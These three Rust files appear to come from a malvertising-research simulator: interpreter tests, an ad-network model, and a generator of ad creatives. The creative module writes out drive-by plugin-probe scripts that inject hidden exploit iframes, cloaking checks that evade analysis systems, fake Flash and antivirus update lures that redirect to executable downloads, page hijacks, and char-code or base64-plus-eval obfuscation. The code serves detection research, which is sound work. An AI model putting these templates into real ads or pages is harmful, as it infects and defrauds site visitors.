            "out = '' + (5 & 3) + (5 | 3) + (5 ^ 3) + (1 << 4) + (16 >> 2) + (~0) + (-5 >>> 28);",
            "var s = 'Hello World'; out = s.toUpperCase() + s.indexOf('World') + s.substring(0, 5) + 'x'.charCodeAt(0) + s[4];",
            "var log = ''; for (var i = 0; i < 4; i++) { switch (i % 2) { case 0: continue; case 1: log += i; break; } log += '.'; } out = log;",
            "var o = {b: 1, a: 2, c: 3}; var ks = ''; for (var k in o) { ks += k; } out = ks;",
            "function Point(x) { this.x = x; } var p = new Point(4); out = p.x;",
            "var a = (1, 2, 3); out = a;",
            "out = Math.floor(3.7) + Math.max(1, 9) + Math.pow(2, 5) + Math.abs(-2);",
            "out = parseInt('2a', 16) + parseInt('10') + Number('3.5') + parseFloat('1.25');",
            "out = '' + ('abc' < 'abd') + ('b' >= 'a') + (2 < 10) + ('10' < '9');",
            "var o = {n: 1}; o.n += 4; o['n'] *= 2; var g = 1; g -= 3; out = o.n + ':' + g;",
            "var o = {a: 1}; out = (void 0) + '' + (delete o.a) + o.a;",
            "var o = {k: 1}; var a = [1, 2]; out = '' + ('k' in o) + ('z' in o) + (1 in a);",
            "out = '' + (Math.random() >= 0) + (Math.random() < 1);",
            "var s = ''; var o = {x: 2}; with_default = typeof s; \
             function inc(v) { return v + o.x; } for (var i = 0; i < 3; i++) { s += inc(i); } out = s + with_default;",
            "out = unescape('%41%42') + escape('a b') + decodeURIComponent('%20').length + btoa('hi') + atob('aGk=');",
            "var n = 255; out = n.toString(16) + (3.14159).toFixed(2) + (7).toString();",
            // Fused superinstruction shapes: ident-receiver member compound
            // assigns, statement-form inc/dec, and constant-rhs operators.
            "var o = {v: 1}; o.v += 2; o.v *= 3; o.v -= 1; o.v /= 2; o.v %= 3; out = o.v;",
            "var o = {n: 5}; o.n++; ++o.n; o.n--; out = '' + o.n++ + --o.n + o.n;",
            "x = 1; x += 2; x++; ++x; x--; out = x;",
            "var x = 10; out = x % 7 + x * 2 - x / 5 + (x + 1) + ('' + x);",
            "var o = {a: {b: {c: 1}}}; o.a.b.c += 5; out = o.a.b.c++ + o.a.b.c;",
            "q = missing_global; out = 'unreached';",
            "o_undef.p = 1; out = 'unreached';",
            // Global inline caches inside eval-free nested closures, and
            // their forced by-name fallbacks (eval taint, catch scopes).
            "var g = 1; (function () { (function () { g += 2; g2 = g * 3; })(); })(); out = g + ':' + g2;",
            "var g = 1; (function () { eval('var g = 10;'); g += 2; out = g; })(); out += ':' + g;",
            "var g = 1; (function () { try { throw 7; } catch (g) { out = g; } out += ':' + g; })();",
            "(function () { out = '' + absent_global; })();",
            "(function () { fresh_global = 5; })(); out = fresh_global;",
        ];
        for src in corpus {
            differential(src);
        }
    }

    #[test]
    fn budget_death_is_engine_identical() {
        let programs = [
            "var s = 0; for (var i = 0; i < 100; i++) { s += i; } out = s;",
            "var n = 0; while (n < 50) { n = n + 1; } out = n;",
            "function f(x) { return x < 2 ? x : f(x - 1) + f(x - 2); } out = f(10);",
            "var o = {x: 0}; var k = 0; do { o.x++; k++; } while (k < 20); out = o.x;",
            "var s = ''; for (var i = 0; i < 20; i++) { s += typeof miss; eval('s += i;'); } out = s;",
            // Fused-op budget parity: pre-charges on GetPropName/SetPropName,
            // IncName, and BinConst must die on the same step as the
            // tree-walk's per-node accounting.
            "var o = {v: 0}; for (var i = 0; i < 30; i++) { o.v += i % 7; o.v++; } out = o.v;",
            "x = 0; for (var i = 0; i < 30; i++) { x = o_missing.p + 1; } out = x;",
        ];
        for src in programs {
            for max_steps in [0, 1, 2, 3, 5, 10, 50, 100, 1000] {
                differential_with(
                    src,
                    Limits {
                        max_steps,
                        max_depth: 50,
                    },
                );
            }
        }
    }

    #[test]
    fn break_leaking_through_a_call_is_redirected_like_the_tree_walk() {
        differential(
            "var n = 0; function leak() { break; } \
             for (var i = 0; i < 3; i++) { leak(); n = n + 1; } out = n + ':' + i;",
        );
        differential(
            "var n = 0; function skip() { continue; } \
             for (var i = 0; i < 3; i++) { skip(); n = n + 1; } out = n + ':' + i;",
        );
        differential(
            "var n = 0; function leak() { break; } \
             while (n < 5) { n++; try { leak(); } finally { n += 10; } } out = n;",
        );
    }

    #[test]
    fn top_level_return_through_try_matches() {
        differential("try { return 5; } finally { out = 2; }");
        differential("out = 1; return 'early'; out = 2;");
    }

    #[test]
    fn inline_caches_hit_on_repeated_property_and_global_access() {
        let mut i = Interpreter::new(NoHost, Limits::default(), 7);
        i.set_engine(ScriptEngine::Vm);
        i.run("var o = {x: 0}; for (var i = 0; i < 100; i++) { o.x = o.x + 1; } out = o.x;")
            .unwrap();
        let v = i.get_global("out").cloned().unwrap();
        assert_eq!(i.display_value(&v), "100");
        let (dispatches, hits, misses) = i.vm_counters();
        assert!(dispatches > 0);
        assert!(
            hits > misses,
            "expected warm caches: hits={hits} misses={misses}"
        );
    }

    #[test]
    fn tree_walk_engine_keeps_vm_counters_at_zero() {
        let mut i = Interpreter::new(NoHost, Limits::default(), 7);
        i.set_engine(ScriptEngine::TreeWalk);
        i.run("var s = 0; for (var i = 0; i < 10; i++) { s += i; } out = s;")
            .unwrap();
        assert_eq!(i.vm_counters(), (0, 0, 0));
    }
}
