//! Creative generation: the HTML + AdScript markup an ad network serves.
//!
//! Every creative is a deterministic function of `(campaign seed, variant)`,
//! so the crawler's corpus de-duplication sees a bounded set of unique
//! advertisements (the paper collected 673,596 unique ads over three
//! months), while each page load still picks variants "dynamically".
//!
//! Malicious creatives are *behaviourally* malicious — the markup contains a
//! real program in the AdScript subset that the emulated browser executes:
//!
//! * drive-by: plugin probe → exploit iframe injection, optionally behind
//!   cloaking checks and obfuscation layers (char-code assembly / base64 +
//!   `eval`);
//! * deceptive: DOM rewrite into a fake player / update prompt plus a timed
//!   navigation to the payload URL;
//! * hijack: `top.location` assignment.

use crate::campaign::{Campaign, CampaignBehavior, CloakStyle, LureKind};
use malvert_types::rng::SeedTree;
use malvert_types::DetRng;

/// Well-known benign sites cloaking creatives bounce analysts to (§4.1
/// mentions redirects to Google and Bing as a cloaking tell).
pub const CLOAK_BENIGN_TARGETS: [&str; 2] = ["www.google.com", "www.bing.com"];

/// The NX-domain stem cloaking creatives bounce to; the world generator
/// registers these as non-resolving.
pub fn cloak_nx_domain(campaign: &Campaign) -> String {
    format!("sinkhole-{}.expired-zone.biz", campaign.id.0)
}

/// Renders the creative document for `(campaign, variant)`.
pub fn render_creative(campaign: &Campaign, variant: u32) -> String {
    let tree = SeedTree::new(campaign.seed).branch("variant").branch_idx(u64::from(variant));
    let mut rng = tree.rng();
    match &campaign.behavior {
        CampaignBehavior::Benign { landing } => render_benign(campaign, variant, landing.as_str(), &mut rng),
        CampaignBehavior::DriveBy {
            exploit_host,
            cloak,
            ..
        } => render_driveby(campaign, variant, exploit_host.as_str(), *cloak, &mut rng),
        CampaignBehavior::Deceptive {
            lure, payload_host, ..
        } => render_deceptive(campaign, variant, *lure, payload_host.as_str(), &mut rng),
        CampaignBehavior::Hijack { destination } => {
            render_hijack(campaign, variant, destination.as_str(), &mut rng)
        }
    }
}

fn render_benign(campaign: &Campaign, variant: u32, landing: &str, rng: &mut DetRng) -> String {
    let slogans = [
        "Save big today",
        "Limited time offer",
        "New arrivals",
        "Shop the sale",
        "Best deals online",
        "Upgrade your life",
    ];
    let slogan = slogans[rng.below(slogans.len())];
    let creative_id = format!("{}-{}", campaign.id.0, variant);
    let mut html = format!(
        "<html><head><title>ad</title></head><body style=\"margin:0\">\
         <a href=\"http://{landing}/offer?c={creative_id}\">\
         <img src=\"http://{landing}/img/banner-{variant}.png\" alt=\"{slogan}\"></a>"
    );
    // Some benign creatives run an impression beacon and a rotator script —
    // benign JS the honeyclient must *not* flag.
    if rng.chance(0.5) {
        html.push_str(&format!(
            "<script>var img = new Image(); \
             img.src = 'http://{landing}/beacon?c={creative_id}&r=' + Math.floor(Math.random() * 100000);\
             </script>"
        ));
    }
    html.push_str("</body></html>");
    html
}

/// The drive-by payload script, before obfuscation. It probes
/// `navigator.plugins` for a vulnerable Flash version and injects an iframe
/// to the exploit landing page when found.
fn driveby_core_script(exploit_host: &str, campaign: &Campaign, variant: u32, cloak: CloakStyle, rng: &mut DetRng) -> String {
    // Cloaking bails out when the environment looks like an analysis system
    // *or* on a random fraction of traffic — real traffic-distribution
    // systems bounce part of their visitors to stay under the radar, which
    // is exactly the tell (§4.1's "redirects to NX domains or benign
    // websites") that the honeyclient heuristics key on.
    let cloak_check = match cloak {
        CloakStyle::None => String::new(),
        CloakStyle::NxDomain => format!(
            "if (navigator.analysisTells > 0 || Math.random() < 0.35) \
             {{ window.location = 'http://{}/'; }} else ",
            cloak_nx_domain(campaign)
        ),
        CloakStyle::BenignSite => format!(
            "if (navigator.analysisTells > 0 || Math.random() < 0.35) \
             {{ window.location = 'http://{}/'; }} else ",
            CLOAK_BENIGN_TARGETS[rng.below(CLOAK_BENIGN_TARGETS.len())]
        ),
    };
    format!(
        "var vulnerable = false;\
         var plugins = navigator.plugins;\
         for (var i = 0; i < plugins.length; i++) {{\
           var p = plugins[i];\
           if (p.name.indexOf('Flash') >= 0 && parseFloat(p.version) < 11.8) {{ vulnerable = true; }}\
           if (p.name.indexOf('Java') >= 0 && parseFloat(p.version) < 7.25) {{ vulnerable = true; }}\
         }}\
         {cloak_check}if (vulnerable) {{\
           var fr = document.createElement('iframe');\
           fr.width = 1; fr.height = 1;\
           fr.src = 'http://{exploit_host}/gate?e={eid}&v={variant}';\
           document.body.appendChild(fr);\
         }}",
        eid = campaign.id.0,
    )
}

fn render_driveby(
    campaign: &Campaign,
    variant: u32,
    exploit_host: &str,
    cloak: CloakStyle,
    rng: &mut DetRng,
) -> String {
    // Flash-vector kits (Ford et al., ACSAC'09) need no script at all: the
    // creative is a plain rich-media ad whose `<embed>` *is* the exploit —
    // the malicious SWF bytes are what Table 1's "Malicious Flash" row
    // counts.
    if campaign.uses_flash_exploit {
        return format!(
            "<html><body style=\"margin:0\">\
             <embed src=\"http://{exploit_host}/flash?e={eid}&amp;v={variant}\" \
             type=\"application/x-shockwave-flash\" width=\"300\" height=\"250\">\
             </body></html>",
            eid = campaign.id.0,
        );
    }
    let core = driveby_core_script(exploit_host, campaign, variant, cloak, rng);
    let script = obfuscate(&core, campaign.obfuscation_layers, rng);
    // The visible part looks like an ordinary banner.
    format!(
        "<html><body style=\"margin:0\">\
         <img src=\"http://{exploit_host}/img/promo-{variant}.png\" width=\"300\" height=\"250\">\
         <script>{script}</script></body></html>"
    )
}

fn render_deceptive(
    campaign: &Campaign,
    variant: u32,
    lure: LureKind,
    payload_host: &str,
    rng: &mut DetRng,
) -> String {
    let (headline, button, filename) = match lure {
        LureKind::FakeFlashUpdate => (
            "Your Flash Player is out of date",
            "Update now",
            "flash_update.exe",
        ),
        LureKind::FakeMediaPlayer => (
            "Missing codec: install MediaPlayer HD to view this content",
            "Install player",
            "mediaplayer_hd.exe",
        ),
        LureKind::FakeAntivirus => (
            "Warning: 3 threats detected on your computer",
            "Remove threats",
            "securityscan.exe",
        ),
    };
    let countdown = rng.range_inclusive(2, 6);
    let core = format!(
        "document.write('<div class=\"alert\"><b>{headline}</b></div>');\
         document.write('<div class=\"btn\">{button}</div>');\
         var left = {countdown};\
         function tick() {{\
           left--;\
           if (left <= 0) {{ window.location = 'http://{payload_host}/get/{filename}?c={cid}&v={variant}'; }}\
           else {{ setTimeout(tick, 1000); }}\
         }}\
         setTimeout(tick, 1000);",
        cid = campaign.id.0,
    );
    let script = obfuscate(&core, campaign.obfuscation_layers, rng);
    format!("<html><body style=\"margin:0\"><script>{script}</script></body></html>")
}

fn render_hijack(campaign: &Campaign, variant: u32, destination: &str, rng: &mut DetRng) -> String {
    let delay_form = rng.chance(0.5);
    let target = format!(
        "http://{destination}/lp?h={hid}&v={variant}",
        hid = campaign.id.0
    );
    let core = if delay_form {
        format!(
            "function go() {{ top.location = '{target}'; }} setTimeout(go, 500);"
        )
    } else {
        format!("top.location = '{target}';")
    };
    let script = obfuscate(&core, campaign.obfuscation_layers, rng);
    format!(
        "<html><body style=\"margin:0\">\
         <img src=\"http://{destination}/img/win-{variant}.png\" width=\"728\" height=\"90\">\
         <script>{script}</script></body></html>"
    )
}

/// Applies `layers` obfuscation layers to `code`.
///
/// Layer styles alternate between char-code assembly and base64 — both are
/// decoded at runtime by the creative itself via `eval`, which forces the
/// honeyclient to actually execute the script to see the behaviour.
pub fn obfuscate(code: &str, layers: u8, rng: &mut DetRng) -> String {
    let mut current = code.to_string();
    for layer in 0..layers {
        current = if (layer + rng.below(2) as u8).is_multiple_of(2) {
            obfuscate_charcodes(&current, rng)
        } else {
            obfuscate_base64(&current)
        };
    }
    current
}

fn obfuscate_charcodes(code: &str, rng: &mut DetRng) -> String {
    // Shift every char code by a small key, decode at runtime.
    let key = rng.range_inclusive(1, 9) as u32;
    let encoded: Vec<String> = code
        .chars()
        .map(|c| (c as u32 + key).to_string())
        .collect();
    format!(
        "var _d = [{}]; var _s = ''; \
         for (var _i = 0; _i < _d.length; _i++) {{ _s += String.fromCharCode(_d[_i] - {key}); }} \
         eval(_s);",
        encoded.join(",")
    )
}

fn obfuscate_base64(code: &str) -> String {
    // Base64 layer using the stdlib-compatible encoder.
    let encoded = base64(code.as_bytes());
    format!("eval(atob('{encoded}'));")
}

fn base64(data: &[u8]) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
    for chunk in data.chunks(3) {
        let b0 = chunk[0] as u32;
        let b1 = chunk.get(1).copied().unwrap_or(0) as u32;
        let b2 = chunk.get(2).copied().unwrap_or(0) as u32;
        let n = (b0 << 16) | (b1 << 8) | b2;
        out.push(ALPHABET[(n >> 18) as usize & 63] as char);
        out.push(ALPHABET[(n >> 12) as usize & 63] as char);
        out.push(if chunk.len() > 1 {
            ALPHABET[(n >> 6) as usize & 63] as char
        } else {
            '='
        });
        out.push(if chunk.len() > 2 {
            ALPHABET[n as usize & 63] as char
        } else {
            '='
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use malvert_types::{CampaignId, DomainName};

    fn benign_campaign() -> Campaign {
        Campaign {
            id: CampaignId(1),
            advertiser: "brand-1".into(),
            behavior: CampaignBehavior::Benign {
                landing: DomainName::parse("landing-shop1.com").unwrap(),
            },
            bid: 1.0,
            active_from: 0,
            variant_count: 3,
            obfuscation_layers: 0,
            uses_flash_exploit: false,
            seed: 77,
        }
    }

    fn driveby_campaign(layers: u8, cloak: CloakStyle) -> Campaign {
        Campaign {
            id: CampaignId(2),
            advertiser: "shade-2".into(),
            behavior: CampaignBehavior::DriveBy {
                exploit_host: DomainName::parse("exploit-gate9.biz").unwrap(),
                family: 3,
                cloak,
            },
            bid: 4.0,
            active_from: 5,
            variant_count: 2,
            obfuscation_layers: layers,
            uses_flash_exploit: false,
            seed: 88,
        }
    }

    #[test]
    fn creative_is_deterministic_per_variant() {
        let c = benign_campaign();
        assert_eq!(render_creative(&c, 0), render_creative(&c, 0));
        assert_ne!(render_creative(&c, 0), render_creative(&c, 1));
    }

    #[test]
    fn benign_creative_links_landing() {
        let html = render_creative(&benign_campaign(), 0);
        assert!(html.contains("landing-shop1.com/offer"));
        assert!(html.contains("<img"));
        assert!(!html.contains("top.location"));
    }

    #[test]
    fn driveby_creative_contains_probe_logic() {
        let html = render_creative(&driveby_campaign(0, CloakStyle::None), 0);
        assert!(html.contains("navigator.plugins"));
        assert!(html.contains("exploit-gate9.biz/gate"));
        assert!(html.contains("createElement('iframe')"));
    }

    #[test]
    fn obfuscated_driveby_hides_plaintext() {
        let c = driveby_campaign(2, CloakStyle::None);
        let html = render_creative(&c, 0);
        // After two layers, the telltale strings are not in the plaintext.
        assert!(
            !html.contains("navigator.plugins"),
            "obfuscation left probe logic in cleartext"
        );
        assert!(html.contains("eval"));
    }

    #[test]
    fn obfuscation_roundtrips_through_interpreter() {
        use malvert_adscript::{Interpreter, Limits, NoHost};
        let mut rng = DetRng::new(5);
        for layers in 0..=2u8 {
            let obf = obfuscate("out = 6 * 7;", layers, &mut rng);
            let mut interp = Interpreter::new(NoHost, Limits::default(), 1);
            interp.run(&obf).unwrap();
            let v = interp.get_global("out").cloned().unwrap();
            assert!(matches!(v, malvert_adscript::Value::Num(n) if n == 42.0), "layers={layers}");
        }
    }

    #[test]
    fn cloaked_creative_mentions_cloak_target() {
        let nx = render_creative(&driveby_campaign(0, CloakStyle::NxDomain), 0);
        assert!(nx.contains("expired-zone.biz"));
        let benign = render_creative(&driveby_campaign(0, CloakStyle::BenignSite), 0);
        assert!(
            CLOAK_BENIGN_TARGETS.iter().any(|t| benign.contains(t)),
            "benign cloak target missing"
        );
    }

    #[test]
    fn deceptive_creative_has_lure_and_payload_url() {
        let c = Campaign {
            id: CampaignId(3),
            advertiser: "shade-3".into(),
            behavior: CampaignBehavior::Deceptive {
                lure: LureKind::FakeFlashUpdate,
                payload_host: DomainName::parse("payload-drop3.net").unwrap(),
                family: 1,
            },
            bid: 3.0,
            active_from: 0,
            variant_count: 1,
            obfuscation_layers: 0,
            uses_flash_exploit: false,
            seed: 99,
        };
        let html = render_creative(&c, 0);
        assert!(html.contains("Flash Player is out of date"));
        assert!(html.contains("payload-drop3.net/get/flash_update.exe"));
        assert!(html.contains("setTimeout"));
    }

    #[test]
    fn hijack_creative_sets_top_location() {
        let c = Campaign {
            id: CampaignId(4),
            advertiser: "shade-4".into(),
            behavior: CampaignBehavior::Hijack {
                destination: DomainName::parse("scam-portal.biz").unwrap(),
            },
            bid: 2.5,
            active_from: 0,
            variant_count: 1,
            obfuscation_layers: 0,
            uses_flash_exploit: false,
            seed: 111,
        };
        let html = render_creative(&c, 0);
        assert!(html.contains("top.location"));
        assert!(html.contains("scam-portal.biz"));
    }
}
