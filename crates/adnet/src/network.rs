//! Ad-network (exchange) model and population generation.

use malvert_types::rng::SeedTree;
use malvert_types::{AdNetworkId, DomainName};

/// Size/reputation tier of an ad network.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum NetworkTier {
    /// The big exchanges: heavy publisher adoption, strong filtering.
    Major,
    /// Mid-sized networks: moderate adoption and filtering.
    Mid,
    /// Small / disreputable networks: weak filtering, late-auction players.
    Shady,
}

impl NetworkTier {
    /// Report label.
    pub fn label(self) -> &'static str {
        match self {
            NetworkTier::Major => "major",
            NetworkTier::Mid => "mid",
            NetworkTier::Shady => "shady",
        }
    }
}

/// One ad network / exchange.
#[derive(Debug, Clone)]
pub struct AdNetwork {
    /// Dense id; publisher slot contracts reference this.
    pub id: AdNetworkId,
    /// Display name.
    pub name: String,
    /// Serve-endpoint domain.
    pub domain: DomainName,
    /// Tier.
    pub tier: NetworkTier,
    /// Probability the network's submission review catches (and rejects) a
    /// malicious campaign. The paper: "some of the biggest ad networks do
    /// not allow the promotion of websites infected with malware while
    /// others, usually smaller in size, are more tolerant".
    pub filter_strength: f64,
    /// Base probability of reselling an impression (arbitration) instead of
    /// filling it from the network's own book.
    pub resale_propensity: f64,
    /// How quickly resale appetite decays per auction hop; shadier networks
    /// keep reselling deep into a chain. Effective resale probability at hop
    /// `h` is `resale_propensity * (1 - h / resale_horizon)`.
    pub resale_horizon: f64,
    /// The designated mid-tier "hotspot" of Figure 2: noticeable share of
    /// total traffic, weak filter.
    pub is_hotspot: bool,
}

impl AdNetwork {
    /// Effective resale probability at auction hop `hop`.
    ///
    /// Reputable networks lose interest in an impression linearly — each
    /// hop eats margin. Shady networks keep ping-ponging deep inventory
    /// among themselves almost undiminished until close to their horizon
    /// (cubic decay): §4.3 observed the same networks buying and selling
    /// the same slot repeatedly, with malicious chains reaching twice the
    /// length of benign ones.
    pub fn resale_probability(&self, hop: u32) -> f64 {
        let x = f64::from(hop) / self.resale_horizon;
        if x >= 1.0 {
            return 0.0;
        }
        match self.tier {
            NetworkTier::Shady => self.resale_propensity * (1.0 - x * x * x),
            _ => self.resale_propensity * (1.0 - x),
        }
    }

    /// Generates the network population.
    ///
    /// Layout (ids are also the publisher-popularity ranks used by the
    /// websim slot generator, so low ids carry most first-hand traffic):
    /// ids 0..major_count are majors, the next block mid-tier, the rest
    /// shady. One mid network is marked as the hotspot.
    pub fn generate_all(tree: SeedTree, count: u32) -> Vec<AdNetwork> {
        let tree = tree.branch("adnet");
        let major_count = (count / 8).max(3);
        let mid_count = (count * 3 / 8).max(6);
        let hotspot_id = major_count + 1; // a prominent mid-tier network
        (0..count)
            .map(|i| {
                let branch = tree.branch("network").branch_idx(u64::from(i));
                let mut rng = branch.rng();
                let tier = if i < major_count {
                    NetworkTier::Major
                } else if i < major_count + mid_count {
                    NetworkTier::Mid
                } else {
                    NetworkTier::Shady
                };
                let is_hotspot = i == hotspot_id;
                let (filter_strength, resale_propensity, resale_horizon) = match tier {
                    NetworkTier::Major => (
                        0.95 + 0.04 * rng.unit_f64(),
                        0.30 + 0.10 * rng.unit_f64(),
                        14.0,
                    ),
                    NetworkTier::Mid => (
                        0.75 + 0.15 * rng.unit_f64(),
                        0.45 + 0.10 * rng.unit_f64(),
                        20.0,
                    ),
                    NetworkTier::Shady => (
                        0.15 + 0.40 * rng.unit_f64(),
                        0.70 + 0.15 * rng.unit_f64(),
                        32.0,
                    ),
                };
                // The hotspot: mid-tier reach with shady-grade filtering.
                let filter_strength = if is_hotspot { 0.35 } else { filter_strength };
                let name = format!(
                    "{}{}",
                    match tier {
                        NetworkTier::Major => "ExchangePrime",
                        NetworkTier::Mid => "AdServe",
                        NetworkTier::Shady => "ClickBoost",
                    },
                    i
                );
                let domain =
                    DomainName::parse(&format!("srv{i}.{}.com", name.to_ascii_lowercase()))
                        .expect("network domain valid");
                AdNetwork {
                    id: AdNetworkId(i),
                    name,
                    domain,
                    tier,
                    filter_strength,
                    resale_propensity,
                    resale_horizon,
                    is_hotspot,
                }
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn networks() -> Vec<AdNetwork> {
        AdNetwork::generate_all(SeedTree::new(1), 40)
    }

    #[test]
    fn population_structure() {
        let nets = networks();
        assert_eq!(nets.len(), 40);
        assert_eq!(nets[0].tier, NetworkTier::Major);
        assert_eq!(nets[39].tier, NetworkTier::Shady);
        let hotspots = nets.iter().filter(|n| n.is_hotspot).count();
        assert_eq!(hotspots, 1);
        let hotspot = nets.iter().find(|n| n.is_hotspot).unwrap();
        assert_eq!(hotspot.tier, NetworkTier::Mid);
        assert!(hotspot.filter_strength < 0.5);
    }

    #[test]
    fn majors_filter_better_than_shady() {
        let nets = networks();
        let avg = |tier: NetworkTier| {
            let v: Vec<f64> = nets
                .iter()
                .filter(|n| n.tier == tier && !n.is_hotspot)
                .map(|n| n.filter_strength)
                .collect();
            v.iter().sum::<f64>() / v.len() as f64
        };
        assert!(avg(NetworkTier::Major) > 0.9);
        assert!(avg(NetworkTier::Shady) < 0.6);
    }

    #[test]
    fn resale_decays_with_hops() {
        let nets = networks();
        let major = &nets[0];
        assert!(major.resale_probability(0) > major.resale_probability(5));
        assert_eq!(major.resale_probability(200), 0.0);
        // Shady networks still resell where majors have stopped.
        let shady = nets.iter().find(|n| n.tier == NetworkTier::Shady).unwrap();
        assert!(shady.resale_probability(16) > 0.0);
        assert_eq!(major.resale_probability(16), 0.0);
    }

    #[test]
    fn domains_unique_and_valid() {
        let nets = networks();
        let set: std::collections::BTreeSet<_> = nets.iter().map(|n| n.domain.clone()).collect();
        assert_eq!(set.len(), nets.len());
    }

    #[test]
    fn deterministic() {
        let a = networks();
        let b = networks();
        for (x, y) in a.iter().zip(&b) {
            assert_eq!(x.filter_strength, y.filter_strength);
            assert_eq!(x.domain, y.domain);
        }
    }
}
